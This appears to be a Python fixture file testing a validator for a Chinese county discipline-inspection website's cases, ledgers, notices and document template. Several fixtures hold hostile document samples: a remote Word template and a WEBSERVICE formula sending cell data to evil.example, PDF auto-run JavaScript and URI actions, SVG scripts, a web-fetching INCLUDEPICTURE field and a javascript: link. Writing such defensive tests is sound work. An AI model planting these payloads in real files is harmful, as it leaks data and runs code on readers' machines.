  [(F + '名单.xlsx', 2, 'personal-phone'), (F + '名单.xlsx', 3, 'personal-id-number')])
d('file-docx-with-mobile', {F + '说明.docx': docx(['联系人：张三', '手机 138 1234 5678'])}, [(F + '说明.docx', 2, 'personal-phone')])
d('file-pdf-with-id-number', {F + 'scan.pdf': pdf('ID ' + ID1)}, [(F + 'scan.pdf', 1, 'personal-id-number')])
# who wrote or changed a file, as it records it: a clerk's name in the properties, a
# comment's and a tracked change's author, a PDF's /Author; the office's name, or the
# account name Windows gives, name no one
CP_NS = 'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"'
def core(creator, modified):
    return f'<?xml version="1.0"?><cp:coreProperties {CP_NS}><dc:creator>{creator}</dc:creator><cp:lastModifiedBy>{modified}</cp:lastModifiedBy></cp:coreProperties>'
W_MAIN = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
d('file-docx-with-author', {F + '说明.docx': docx(['说明'], {
    'docProps/core.xml': core('张伟', 'Administrator'),
    'word/comments.xml': f'<?xml version="1.0"?><w:comments {W_MAIN}><w:comment w:id="0" w:author="Li Na" w:initials="LN"><w:p><w:r><w:t>核对</w:t></w:r></w:p></w:comment></w:comments>'})},
  [(F + '说明.docx', 1, 'attachment-author'), (F + '说明.docx', 1, 'attachment-author')])
d('file-docx-by-the-office-is-fine', {F + '说明.docx': docx(['说明'], {'docProps/core.xml': core('演示县纪委办公室', 'Administrator')})}, [])
# an inspection group, a working committee, an office's 办: organs, no one; a person of one is one
d('file-docx-by-an-inspection-group-is-fine', {F + '说明.docx': docx(['说明'], {
    'docProps/core.xml': core('县纪委监委驻县教育局纪检组', '东城街道纪工委'),
    'word/comments.xml': f'<?xml version="1.0"?><w:comments {W_MAIN}><w:comment w:id="0" w:author="第二督查组" w:initials="DC"><w:p><w:r><w:t>核对</w:t></w:r></w:p></w:comment><w:comment w:id="1" w:author="县信访办" w:initials="XF"><w:p><w:r><w:t>核对</w:t></w:r></w:p></w:comment></w:comments>'})}, [])
d('file-docx-by-a-person-of-a-group', {F + '说明.docx': docx(['说明'], {'docProps/core.xml': core('督查组王强', '办公室')})},
  [(F + '说明.docx', 1, 'attachment-author')])
d('file-pdf-with-author', {F + 'scan.pdf': pdf('x').replace(b'/Root 1 0 R', b'/Root 1 0 R /Info << /Author (Chen Jing) >>')}, [(F + 'scan.pdf', 1, 'attachment-author')])
d('file-pdf-with-javascript', {F + 'run.pdf': pdf('x').replace(b'/Type /Catalog', b'/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>')}, [(F + 'run.pdf', 1, 'file-refused')])
# opening these reaches another host: a Word template fetched from an address, an Excel
# formula that fetches, a PDF page that opens an address by itself
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
d('file-docx-with-remote-template', {F + '说明.docx': docx(['说明'], {
    'word/settings.xml': f'<?xml version="1.0"?><w:settings {W_NS}><w:attachedTemplate r:id="rId1"/></w:settings>',
    'word/_rels/settings.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'})},
  [(F + '说明.docx', 1, 'file-refused')])
d('file-xlsx-with-webservice-formula', {F + '表.xlsx': xlsx([['单位'], ['=WEBSERVICE("http://evil.example/?q="&A1)']])}, [(F + '表.xlsx', 1, 'file-refused')])
d('file-pdf-page-opens-a-web-address', {F + 'open.pdf': pdf('x').replace(b'/Type /Page ', b'/Type /Page /AA << /O << /S /URI /URI (http://evil.example/o) >> >> ')}, [(F + 'open.pdf', 1, 'file-refused')])
d('file-vcf-with-mobile', {F + 'card.vcf': 'BEGIN:VCARD\nVERSION:3.0\nFN:Zhang\nTEL:13812345678\nEND:VCARD\n'}, [(F + 'card.vcf', 4, 'personal-phone')])
d('file-tsv-with-id-number', {F + '名单.tsv': f'姓名\t证件号\n张三\t{ID1}\n'}, [(F + '名单.tsv', 2, 'personal-id-number')])
d('file-csv-gb18030-with-email', {F + '联系.csv': '姓名,邮箱\n张三,zhang3@qq.com\n'.encode('gb18030')}, [(F + '联系.csv', 2, 'personal-email')])
d('file-svg-with-script', {F + 'chart.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}, [(F + 'chart.svg', 1, 'svg-active-content')])
d('file-svg-with-xhtml-foreign-object', {F + 'chart.svg': '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject></svg>'}, [(F + 'chart.svg', 1, 'svg-active-content')])
d('file-svg-with-onload', {F + 'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'}, [(F + 'logo.svg', 1, 'svg-active-content')])
d('file-svg-with-outside-image', {F + 'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/t.png"/></svg>'}, [(F + 'logo.svg', 1, 'svg-active-content')])
d('file-xml-with-xhtml-script', {F + 'data.xml': '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'}, [(F + 'data.xml', 1, 'file-refused')])
d('file-xhtml', {F + 'page.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'}, [(F + 'page.xhtml', 1, 'file-refused')])
d('file-html-page', {F + 'page.html': '<p>x</p>'}, [(F + 'page.html', 1, 'file-refused')])
d('file-png-that-is-html', {F + 'pic.png': '<html><script>alert(1)</script></html>'}, [(F + 'pic.png', 1, 'file-refused')])
d('file-damaged-xlsx', {F + '坏.xlsx': b'PK\x03\x04 not really a workbook'}, [(F + '坏.xlsx', 1, 'attachment-unreadable')])
d('file-markdown-page-with-script', {'content/about.md': '# 关于\n\n<script>alert(1)</script>\n'}, [('content/about.md', 3, 'unsafe-markup')])

# ---- the 公文 template (site_config/document-template.docx), needed once a 通报 is published
import io, zipfile
T = 'site_config/document-template.docx'
def template_with(member, old, new):
    src = zipfile.ZipFile(REPO / T)
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == member:
                assert old.encode() in data, old
                data = data.replace(old.encode(), new.encode())
            z.writestr(info, data)
    return out.getvalue()
# the minimal notice froze the template and font rules it was issued with (document_style):
# a template replaced without keeping that one is said at the notice too
STYLE_T = (N, line_of(notice, '  template: '), 'document-style-missing')
STYLE_F = (N, line_of(notice, '  fonts: '), 'document-style-missing')
d('document-template-not-a-docx', {T: b'PK\x03\x04 saved as something else'}, [STYLE_T, (T, 0, 'document-template-unreadable')])
d('document-template-style-renamed', {T: template_with('word/styles.xml', 'w:name w:val="公文正文"', 'w:name w:val="正文样式"')}, [STYLE_T, (T, 0, 'document-template-style')])
# every 公文 made from the template keeps its 经理 and its comments' authors
d('document-template-names-its-manager', {T: template_with('docProps/app.xml', '<Manager/>', '<Manager>王强</Manager>')}, [STYLE_T, (T, 1, 'attachment-author')])
d('document-template-body-placeholder-deleted', {T: template_with('word/document.xml', '{{正文}}', '正文')}, [STYLE_T, (T, 0, 'document-template-placeholder')])
# what the template's page footer holds is in every 公文 made from it, as an attachment's
# text is: a field fetching a picture from the web whenever a reader opens it, a mobile
# number, a link that runs a script (the audit refused the built Word file; check said
# nothing at the template); at paragraph 4, the footer's after the body's three
FOOTER = 'word/footer1.xml'
d('document-template-footer-fetches-a-picture', {T: template_with(FOOTER, ' PAGE ', ' INCLUDEPICTURE "http://tongji.example.com/p.gif" ')}, [STYLE_T, (T, 1, 'file-refused')])
d('document-template-footer-with-a-mobile', {T: template_with(FOOTER, '<w:t xml:space="preserve"> —</w:t>', '<w:t xml:space="preserve"> — 联系人王强 13812345678</w:t>')}, [STYLE_T, (T, 4, 'personal-phone')])
d('document-template-footer-links-a-script', {T: template_with(FOOTER, ' PAGE ', ' HYPERLINK "javascript:alert(1)" ')}, [STYLE_T, (T, 4, 'attachment-link-scheme')])
# A county restyling its 公文 (another font size for the body) keeps the template its issued
# notices were made with under site_config/document-styles/, under any name: nothing to say
RESTYLED = template_with('word/styles.xml', 'w:name w:val="公文正文"', 'w:name w:val="公文正文"/><w:aliases w:val="正文"')
# the template saved in Word as “Strict Open XML 文档”: python-docx opened it and found no
# style and no {{正文}} (or wrote 公文 from markup it does not read); said as the format to save again
d('document-template-saved-as-strict-open-xml', {T: _strict_word((REPO / T).read_bytes())}, [STYLE_T, (T, 0, 'document-template-strict-format')])
d('document-template-restyled-with-the-issued-one-kept', {T: RESTYLED, 'site_config/document-styles/2026年5月以前.docx': (REPO / T).read_bytes()}, [])
d('document-template-restyled-without-the-issued-one', {T: RESTYLED}, [STYLE_T])
# the issued template kept in site_config/document-styles/ but saved there as Strict Open
# XML: it matches no issued notice and could lay out none; check said only that the
# notice's style was missing, never why the kept copy did not count (the template itself
# was already checked for this format)
d('document-styles-kept-template-saved-as-strict-open-xml', {T: RESTYLED, 'site_config/document-styles/2026年5月以前.docx': _strict_word((REPO / T).read_bytes())},
  [STYLE_T, ('site_config/document-styles/2026年5月以前.docx', 0, 'document-template-strict-format')])
# one kept with its {{正文}} deleted is the template it was: said at the kept file
d('document-styles-kept-template-without-its-body-placeholder', {T: RESTYLED, 'site_config/document-styles/旧模板.docx': template_with('word/document.xml', '{{正文}}', '正文')},
  [STYLE_T, ('site_config/document-styles/旧模板.docx', 0, 'document-template-placeholder')])
d('document-template-issued-one-kept-as-another-kind', {T: RESTYLED, 'site_config/document-styles/old.docx.bak': (REPO / T).read_bytes()}, [STYLE_T, ('site_config/document-styles/old.docx.bak', 1, 'file-unknown')])
FONTS = open(REPO / 'site_config/fonts.conf').read()
d('document-fonts-changed-without-the-issued-ones', {'site_config/fonts.conf': FONTS.replace('</fontconfig>', '<!-- 改用其他字体 -->\n</fontconfig>')}, [STYLE_F])
d('document-fonts-changed-with-the-issued-ones-kept', {'site_config/fonts.conf': FONTS.replace('</fontconfig>', '<!-- 改用其他字体 -->\n</fontconfig>'), 'site_config/document-styles/fonts-2026.conf': FONTS}, [])
t = notice[:notice.index('document_style:')] + notice[notice.index('case_texts:'):]
d('notice-style-not-frozen', {N: t}, [(N, line_of(t, 'category:'), 'notice-style-not-frozen')])
t = rep(notice, '  template: 5507f38e', '  template: 5507F38E')
d('notice-style-digest-not-hex', {N: t}, [(N, line_of(t, '  template: '), 'bad-format')])

# ---- the staff's way in: one message for one mistake
d('case-windows-copy-numbered', {'data/cases/2026-001 (2).yml': case}, [('data/cases/2026-001 (2).yml', 1, 'file-copy')])
d('case-two-windows-copies', {'data/cases/2026-001 (2).yml': case, 'data/cases/2026-001 - 副本.yml': case},
  [('data/cases/2026-001 (2).yml', 1, 'file-copy'), ('data/cases/2026-001 - 副本.yml', 1, 'file-copy')])
d('case-copy-without-original-is-misnamed', {'data/cases/2026-001 - 副本.yml': case},
  [('data/cases/2026-001 - 副本.yml', 1, 'file-name-not-id')], remove=[C])
d('taxonomy-empty-file-only-cause', {TP: ''}, [(TP, 1, 'yaml-empty')])
t = rep(tax, '工作拖延应付。}', '工作拖延应付。')
d('taxonomy-unclosed-brace-only-cause', {TP: t}, [(TP, line_of(t, '{id: A2, name: 履行职责不担当'), 'yaml-unclosed-bracket')])
t = rep(tax, 'unit_kinds:', 'unit_kind:')
d('taxonomy-list-name-mistyped-only-cause', {TP: t}, [(TP, line_of(t, 'categories:'), 'missing-field'), (TP, line_of(t, 'unit_kind:'), 'unknown-field')])
d('labels-empty-file', {LP: ''}, [(LP, 1, 'yaml-empty')])
TWO = ['编号', '单位', '问题类别', '问题表现', '整改情况', None, None, '建账日期', '牵头领导', '责任人', '整改类型', '整改状态', '销号日期']
SUB = [None, None, None, None, '整改措施', '整改目标', '整改时限', None, None, None, None, None, None]
def two_row():
    def setup(book):
        sheet = book['台账']
        for c in 'ABCDHIJKLM':
            sheet.merge_cells(f'{c}1:{c}2')
        sheet.merge_cells('E1:G1')
    return setup
def lrow2(i):
    r = lrow(i)
    return r[:5] + [r[5], r[7], r[6]] + r[8:]  # 整改措施, 整改目标, 整改时限, then 建账日期
d('xlsx-two-row-header-is-read', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': [TWO, SUB, lrow2(1), lrow2(2)]}, two_row())},
  [('data/ledger/东城镇.xlsx', 2, 'table-two-row-header')])
SUB2 = [None, None, None, None, '整改措施', '完成时限', '完成情况', None, None, None, None, None, None]
d('xlsx-two-row-header-with-unknown-names', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': [TWO, SUB2, lrow2(1)]}, two_row())},
  [('data/ledger/东城镇.xlsx', 2, 'table-two-row-header-unknown')])
t = ','.join(c or '' for c in TWO) + '\n' + ','.join(c or '' for c in SUB) + '\n' + '\n'.join(','.join(c or '' for c in lrow2(i)) for i in (1, 2)) + '\n'
d('csv-two-row-header-is-read', {'data/ledger/东城镇.csv': t}, [('data/ledger/东城镇.csv', 2, 'table-two-row-header')])

# ---- what clerks write around the table
t = ledger + ',,,,,,,,,,,,\n说明：1.整改状态填未整改、整改中、已销号。,,,,,,,,,,,,\n2.日期写成2026-05-01。,,,,,,,,,,,,\n填报人：王某,,,,,,,审核人：李某,,,,填报日期：2026-05-06,\n'
d('ledger-notes-and-signature-below-the-table', {L: t}, [(L, 6, 'table-notes-rows')])
t = ledger + '注：TZ-3 已于5月销号。,,,,,,,,,,,,\n'
d('ledger-note-row-right-under-the-data', {L: t}, [(L, 5, 'table-notes-rows')])
def instructions_first(book):
    sheet = book.create_sheet('说明', 0)
    sheet.append(['填写要求'])
    sheet.append(['日期写成 2026-05-01'])
d('xlsx-instructions-sheet-named-shuoming-first', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': [LH, lrow(1)]}, instructions_first)}, [])
d('xlsx-header-cell-wrapped-on-two-lines', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': [[h if h != 'deadline' else '整改\n时限' for h in LH], lrow(1)]})}, [])
t = rep(ledger, ',deadline,', ',整改时限（完成日期）,')
d('ledger-required-header-with-a-remark', {L: t}, [(L, 1, 'table-header-remark')])
t = rep(rep(rep(ledger, ',measures,', ',整改措施(具体),'), ',deadline,', ',完成时限（年月日）,'), ',responsible,', ',责任人【职务】,')
d('ledger-headers-with-a-remark-in-brackets-are-read', {L: t}, [(L, 1, 'table-header-remark')])
t = rep(ledger, ',lead_leader,', ',牵头领导（姓名及职务）,')
d('ledger-name-remark-on-a-position-column-is-not-read-into-it', {L: t}, [(L, 1, 'unknown-field')])
t = rep(ledger, 'id,unit,category,problem,measures,target,opened_on,deadline,lead_leader,responsible,', '编号,责任单位,问题类别,问题表现,整改措施,整治目标,建账日期,完成时限,责任领导,具体责任人,')
d('ledger-headers-in-the-words-of-the-campaign-documents', {L: t}, [])
t = rep(rep(ledger, ',限期整改,', ',限时整改,'), ',立行立改,', ',持续整改,')
d('ledger-handling-in-the-words-of-seed-003', {L: t}, [])
t = rep(rep(rep(units, '县委办公室,是,否,否', '县委办公室,√,×,✗'), '县监委,是,是,是', '县监委,✓,✔,☑'), '县教育局,否,否,否', '县教育局,☒,✘,否')
d('units-ticks-and-crosses-in-yes-no-columns', {U: t}, [])
# a tick typed from a phone or WPS's emoji panel (✔️ ✅ ❌ carry a variation selector), the
# boxed ones and 真/假: as plain as the others (✔️ was refused as bad-bool)
t = rep(rep(rep(units, '县委办公室,是,否,否', '县委办公室,✔\ufe0f,❌,☓'), '县监委,是,是,是', '县监委,✅,真,☑\ufe0f'), '县教育局,否,否,否', '县教育局,假,否,✖\ufe0f')
d('units-emoji-ticks-and-true-false-words-in-yes-no-columns', {U: t}, [])
# an empty box (☐: a printed form's question not yet answered) is no 否; a circle, a dot, a
# filled square mean 是 in one office's sheet and "not done" in another's: each said why
t = rep(rep(rep(units, '县委办公室,是,否,否', '县委办公室,☐,否,否'), '县监委,是,是,是', '县监委,○,是,●'), '县教育局,否,否,否', '县教育局,否,■,□')
d('units-empty-box-and-marks-in-yes-no-columns-are-not-guessed', {U: t},
  [(U, 2, 'bad-bool-empty-box'), (U, 4, 'bad-bool-mark'), (U, 4, 'bad-bool-mark'), (U, 5, 'bad-bool-empty-box'), (U, 5, 'bad-bool-mark')])
t = rep(rep(units, '县委办公室,是,否,否', '县委办公室,有,否,否'), '县教育局,否,否,否', '县教育局,无,未,否')
d('units-you-wu-in-yes-no-columns-are-not-guessed', {U: t}, [(U, 2, 'bad-bool-word'), (U, 5, 'bad-bool-word'), (U, 5, 'bad-bool-word')])
t = rep(insp, '暗访,XZ01、ZF01,1,', '暗访,XZ01、ZF01,1个,')
d('inspections-count-with-its-measure-word', {I: t}, [])
t = rep(reports, 'XZ01,2026-04,2026-05-03,', 'XZ01,2026-04,5月3日,')
d('reports-date-without-a-year', {R: t}, [(R, 2, 'date-no-year')])
t = rep(case, '张某某', '李某某', 3)
d('case-copied-to-the-next-number-without-changing-its-id', {'data/cases/2026-002.yml': t}, [('data/cases/2026-002.yml', 1, 'file-copied-id-rename')])
d('case-copy-with-an-unrelated-name', {'data/cases/案例 - 副本.yml': t}, [('data/cases/案例 - 副本.yml', 1, 'file-copied-id')])
# a copy whose name is no id it could take: a listing page's (index) or one another
# case holds (2026-002, in a file misnamed 案例3.yml): never offered as its new id
d('case-copied-to-a-reserved-name-is-not-offered-it', {'data/cases/index.yml': t}, [('data/cases/index.yml', 1, 'file-copied-id')])
t3 = rep(rep(case, 'id: 2026-001', 'id: 2026-002'), '推诿扯皮问题', '吃拿卡要问题')
d('case-copied-to-a-number-another-case-holds', {'data/cases/2026-002.yml': t, 'data/cases/案例3.yml': t3},
  [('data/cases/2026-002.yml', 1, 'file-copied-id'), ('data/cases/案例3.yml', 1, 'file-name-not-id-taken')])
# the file its id names is there but cannot be read: still taken, never offered
d('case-misnamed-where-its-ids-file-is-unreadable', {'data/cases/2026-002.yml': 'id: 2026-002\ntitle: [未写完\n', 'data/cases/案例3.yml': t3},
  [('data/cases/2026-002.yml', 2, 'yaml-unclosed-bracket'), ('data/cases/案例3.yml', 1, 'file-name-not-id-taken')])
t = ledger + 'TZ-4,,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\nTZ-5,,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\nTZ-6,,B2,问题,措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\n'
d('ledger-unit-merged-in-excel-saved-as-csv-is-said-once', {L: t}, [(L, 5, 'missing-field'), (L, 6, 'missing-again')])
t = ''.join(line + (',备注,填报人,联系电话（手机）,说明\n' if n == 0 else ',已约谈,王某,13800000000,\n' if n == 1 else ',,,,\n') for n, line in enumerate(ledger.splitlines()))
d('ledger-clerks-own-columns-are-said-once-and-not-read', {L: t}, [(L, 1, 'table-own-columns')])
t = ledger.split('\n', 1)[0] + ',备注\n' + ''.join(l + ',\n' for l in ledger.split('\n', 1)[1].splitlines()) + ',,,,,,,,,,,,,TZ-3 已于5月整改完毕\n'
d('ledger-remark-on-a-row-of-its-own-is-not-a-record', {L: t}, [(L, 1, 'table-own-columns')])

t = rep(case, 'persons:\n  - name', 'persons:\n  － name')
d('yaml-fullwidth-dash-list-item', {C: t}, [(C, line_of(t, '－ name'), 'yaml-fullwidth-dash')])

d('ledger-windows-copy-is-one-problem', {'data/ledger/台账 - 副本.csv': ledger}, [('data/ledger/台账 - 副本.csv', 1, 'file-windows-copy')])
d('ledger-wps-numbered-copy-is-one-problem', {'data/ledger/台账(2).csv': ledger}, [('data/ledger/台账(2).csv', 1, 'file-windows-copy')])
d('notice-windows-copy-is-one-problem', {'content/notices/2026-05-notice - 副本.md': notice}, [('content/notices/2026-05-notice - 副本.md', 1, 'file-windows-copy')])
d('ledger-second-batch-is-read', {'data/ledger/台账-第二批.csv': ledger.replace('TZ-', 'TB-')}, [])

t = rep(ledger, 'id,unit,category', 'ID,Unit,CATEGORY')
d('ledger-english-headers-in-capitals-are-read', {L: t}, [])

def filtered(book):
    sheet = book['台账']
    sheet.auto_filter.ref = 'A1:M7'
    sheet.auto_filter.add_filter_column(11, ['整改中'])
    for row in (3, 5, 7):
        sheet.row_dimensions[row].hidden = True
LR = [LH] + [lrow(i, status='整改中' if i % 2 else '未整改') for i in range(1, 7)]
d('xlsx-filter-hiding-rows-is-one-problem', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': LR}, filtered)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-filtered')])
def hide_block(book):
    for row in (3, 4, 5):
        book['台账'].row_dimensions[row].hidden = True
d('xlsx-hidden-rows-are-one-problem', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': LR}, hide_block)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-hidden-rows')])

def formulas(book):
    for row in (2, 3, 4):
        book['台账'][f'F{row}'] = f'=D{row}&"整改到位"'
d('xlsx-formula-column-without-results-is-one-problem', {'data/ledger/东城镇.xlsx': xlsx_sheets({'台账': [LH, lrow(1), lrow(2), lrow(3)]}, formulas)},
  [('data/ledger/东城镇.xlsx', 2, 'xlsx-formula-no-value-rows')])

t = rep(ledger, 'id,unit,category,problem,', 'id，unit，category，problem,')
d('ledger-header-typed-with-chinese-commas', {L: t}, [(L, 1, 'csv-header-joined')])

t = ledger + ''.join(f'XL-{i},东城镇人民政府,B2,问题{i},措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,整改中,\n' for i in range(1, 6))
d('ledger-same-unknown-unit-on-every-row-is-said-once', {L: t}, [(L, 5, 'unknown-reference'), (L, 6, 'value-again')])

t = ledger + ''.join(f'XL-{i},XZ01,B2,问题{i},措施,目标,2026-04-01,2026-06-30,书记,主任,限期整改,待验收,\n' for i in range(1, 5))
d('ledger-same-wrong-status-on-every-row-is-said-once', {L: t}, [(L, 5, 'bad-enum'), (L, 6, 'value-again')])

t = case.rstrip('\n') + '\nlinks: [\n'
d('yaml-bracket-opened-at-the-end-of-the-file', {C: t}, [(C, line_of(t, 'links: ['), 'yaml-unclosed-bracket')])

t = '2026年整改台账,,,,,,,,,,,,\n（第二批）,,,,,,,,,,,,\n填报单位：东城镇,,,,,,,,,,,,\n填报日期：2026-05-01,,,,,,,,,,,,\n（盖章）,,,,,,,,,,,,\n单位：件,,,,,,,,,,,,\n' + ledger
d('ledger-six-rows-above-the-header', {L: t}, [(L, 1, 'table-title-rows')])
# a title and seven numbered 填表要求 lines above the header (more than five, not all
# short): the header is the row below that names the columns, the lines above one info
t = '东城镇整改台账\n' + ''.join(f'{k}、填表要求第{k}条，按“编号,单位”填写,,,\n' for k in range(1, 8)) + ledger
d('ledger-instructions-above-the-header', {L: t}, [(L, 1, 'table-title-rows')])
# a header naming no column and nothing below naming two: the first row is the header,
# as before (each unknown name and missing column said at it)
t = '甲,乙,丙\n' + ''.join(f'{k},{k},{k}\n' for k in range(1, 4))
d('ledger-header-naming-no-column', {L: t}, [(L, 1, 'csv-missing-column')] * 9 + [(L, 1, 'unknown-field')] * 3)
t = '东城镇,整改台账,2026年,,,,,,,,,,\n' + ledger
d('ledger-title-written-over-three-cells', {L: t}, [(L, 1, 'table-title-row')])

def clerk_workbook():
    """A unit's ledger as a clerk makes it in Excel or WPS: a merged title, a 填报单位 line,
    序号 and 备注 columns, headers with remarks, the unit merged down its rows, dates typed
    every way (2026.5.1 with a space, full-width digits, a date cell, 2026/4/3 0:00:00),
    seed 003's 限时整改, a 合计 row, the signature line, and borders and fill formatted
    down to row 300 and column Z."""
    import datetime as _dt, io, openpyxl
    from openpyxl.styles import Border, PatternFill, Side
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = 'Sheet1'
    sheet.append(['演示县东城镇“不作为、慢作为、乱作为”问题整改台账'])
    sheet.merge_cells('A1:O1')
    sheet.append(['填报单位：东城镇（盖章）'] + [None] * 9 + ['填报日期：2026年5月6日'])
    sheet.merge_cells('A2:E2')
    sheet.append(['序号', '编号', '单位', '问题类别', '问题表现', '整改措施（具体）', '整改目标', '建账日期',
                  '完成时限（年月日）', '牵头领导', '责任人（职务）', '整改类型', '整改状态', '销号日期', '备注'])
    sheet.append([1, 'XL-1', '东城镇', 'B2', '一次性告知不到位', '公开办事指南', '群众满意',
                  _dt.datetime(2026, 4, 1), '2026.5.1 ', '党委书记', '办公室主任', '限期整改', '已销号',
                  _dt.datetime(2026, 4, 20), '√'])
    sheet.append([2, 'XL-2', None, 'B3', '审批时限长', '精简环节', '时限减半', '２０２６年４月２日', 46203,
                  '镇长', '股长', '限时整改', '整改中', None, None])
    sheet.append([3, 'XL-3', None, 'B4', '迟到早退', '考勤通报', '不再发生', '2026/4/3 0:00:00',
                  _dt.datetime(2026, 12, 18), '主任', '副主任', '立行立改', '未整改', None, '联系人13800000000'])
    sheet.merge_cells('C4:C6')
    sheet['I5'].number_format = 'yyyy/m/d'
    sheet.append(['合计', '3项'])
    sheet.append(['填报人：王某', None, None, None, None, None, '审核人：李某'])
    side = Side(style='thin')
    border, fill = Border(left=side, right=side, top=side, bottom=side), PatternFill('solid', fgColor='FFFF00')
    for row in range(1, 301):
        for column in range(1, 27):
            cell = sheet.cell(row, column)
            cell.border = border
            if row > 8:
                cell.fill = fill
    book.properties.created = book.properties.modified = _dt.datetime(2026, 1, 1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
t = rep(rep(case, 'measures: [诫勉谈话]', 'measures: [诫勉, 党内警告]'), 'source: 群众举报', 'source: 明查暗访')
# seeds 001, 004: 明查暗访; the 党内警告 added is in no text the cited notice issued (a note)
d('case-measures-and-source-in-the-documents-words', {C: t},
  [(C, 14, 'notice-summary-differs')])
t = rep(tax, 'aliases: [警告, 警告处分, 党内警告处分]', 'aliases: [警告, 警告处分, 党内警告处分, 党内严重警告]')
# 党内严重警告 is M02's name: the alias given to M01 (written above it) is the mistake
d('taxonomy-alias-taken-by-another-entry', {'site_config/taxonomy.yml': t}, [('site_config/taxonomy.yml', line_of(t, 'id: M01'), 'taxonomy-alias-taken')])
# the same alias on two entries: said at the second
t = rep(tax, 'aliases: [严重警告, 严重警告处分, 党内严重警告处分]', 'aliases: [严重警告, 严重警告处分, 党内严重警告处分, 警告处分]')
d('taxonomy-alias-given-to-two-entries', {'site_config/taxonomy.yml': t}, [('site_config/taxonomy.yml', line_of(t, 'id: M02'), 'taxonomy-alias-taken')])
X = 'data/ledger/东城镇.xlsx'
d('xlsx-a-clerks-real-ledger-is-read', {X: clerk_workbook()},
  [(X, 1, 'table-title-row'), (X, 2, 'table-title-row'), (X, 3, 'table-header-remark'),
   (X, 3, 'table-index-column'), (X, 3, 'table-own-columns'), (X, 4, 'xlsx-merged-filled'),
   (X, 7, 'table-total-row'), (X, 8, 'table-notes-rows')])

# A 容错免责 case's person (乡科级, a rank site.yml names in full when held to account)
# named in full by an issued 通报: refused as one exempted, not as a rank masked
TC = 'data/cases/2026-002.yml'
tolerance = ('id: 2026-002\nkind: 容错免责\ntitle: 东城镇干部先行先试出现失误予以容错\n'
             'published_on: 2026-05-10\nunit: XZ01\ncategories: [A3]\nsource: 群众举报\n'
             'facts: |\n  东城镇一名干部在便民改革试点中因政策界限不明确出现工作失误，未谋取私利，及时纠正。\n'
             'persons:\n  - name: 季晓东\n    rank: 乡科级\n    position: 副镇长\n'
             'outcome: 经集体研究，认定符合容错情形，依规免予问责。\n')
t = notice + '\n东城镇副镇长季晓东在试点中出现失误，经认定予以容错免责。\n'
d('notice-names-a-tolerated-official-in-full', {TC: tolerance, N: t},
  [(N, line_of(t, '东城镇副镇长季晓东'), 'tolerated-name-shown')])

# ---- every refusal has its fixture: codes proved so far only by unit tests
# a body of more than 200 fenced blocks is not converted (the engine rewrites the whole
# body once per block): said at the 201st block's opening fence
t = notice + '\n' + ''.join(f'```\n代码{n}\n```\n\n' for n in range(201))
d('notice-too-many-code-blocks', {N: t}, [(N, 24 + 4 * 200, 'too-many-code-blocks')])
d('notice-two-hundred-code-blocks-are-fine', {N: notice + '\n' + ''.join(f'```\n代码{n}\n```\n\n' for n in range(200))}, [])
# markup the sanitiser removes, named on 100 lines, then counted from the 101st
t = notice + '\n' + ''.join(f'<b onclick="x">第{n}行</b>\n\n' for n in range(101))
d('notice-unsafe-markup-on-101-lines', {N: t}, [(N, 24 + 2 * n, 'unsafe-markup') for n in range(100)] + [(N, 224, 'unsafe-markup-more')])
# control characters told one by one on 20 lines, then counted from the 21st
t = rep(case, 'outcome: 责令整改。', 'outcome: |\n' + ''.join(f'  第{n}行\x07\n' for n in range(21)) + 'draft: 否')
d('case-control-characters-on-21-lines', {C: t}, [(C, 16 + n, 'control-character') for n in range(20)] + [(C, 36, 'control-character-more')])
# personal data a published 通报 never holds: a reporter's name, a plate, a bank card
d('pd-reporter-named', {C: facts('经举报人李建国实名举报反映。')}, [(C, 10, 'reporter-identity')])
d('pd-licence-plate', {C: facts('其驾驶公车（车牌浙A12345）外出。')}, [(C, 10, 'licence-plate')])
d('pd-bank-card', {C: facts('转入其个人银行卡 6222 0212 3456 7890 128。')}, [(C, 10, 'personal-bank-card')])
d('pd-bank-card-in-notice', {N: nb('款项转入卡号 4111-1111-1111-1111。')}, [(N, 24, 'personal-bank-card')])
# a line of three dots (an "and so on" typed alone) ends the YAML document: said at the
# dots, not at the field below them that the parser stopped on
t = rep(case, 'published_on:', '...\npublished_on:')
